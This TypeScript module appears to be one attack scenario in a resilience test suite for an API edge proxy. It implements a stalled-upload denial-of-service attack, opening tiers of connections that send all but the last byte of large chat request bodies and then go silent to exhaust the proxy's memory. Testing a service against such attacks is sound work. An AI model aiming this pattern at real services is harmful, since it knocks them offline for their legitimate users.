import type { StartAttack } from '../attack.js';
import { holdConnections, type HeldGroup } from '../hold-connections.js';
import { bearer, CHAT, postHead } from '../request-heads.js';

const KIB = 1024;
/**
 * Of the largest body that a call may have: as many as fit into the 512 MiB of an edge without a
 * share for each account.
 */
const LARGEST = { bytes: 10 * KIB * KIB, connections: 51 };
/**
 * They take what is left, the next size when the one before has come in, down to less than a good
 * call needs.
 */
const SMALLER = [
  { bytes: 64 * KIB, connections: 34, afterMs: 3_000 },
  { bytes: 4 * KIB, connections: 20, afterMs: 4_000 },
  { bytes: 256, connections: 40, afterMs: 5_000 },
  { bytes: 64, connections: 40, afterMs: 6_000 },
];
const PIECE_BYTES = KIB * KIB;

/** Uploads with the attacker's own key: all but the last byte at once, then silence. */
export const stalledUploads: StartAttack = ({ edgePort: port, secret }, bounds) => {
  const groups = [LARGEST, ...SMALLER].map(({ bytes, ...group }): HeldGroup => ({
    ...group,
    port,
    first: postHead(CHAT, bearer(secret), `content-length: ${bytes}`),
    then: { bytes: Buffer.alloc(Math.min(PIECE_BYTES, bytes), ' '), everyMs: 0, bytesMax: bytes - 1 },
    reads: true,
  }));
  return holdConnections(groups, bounds);
};
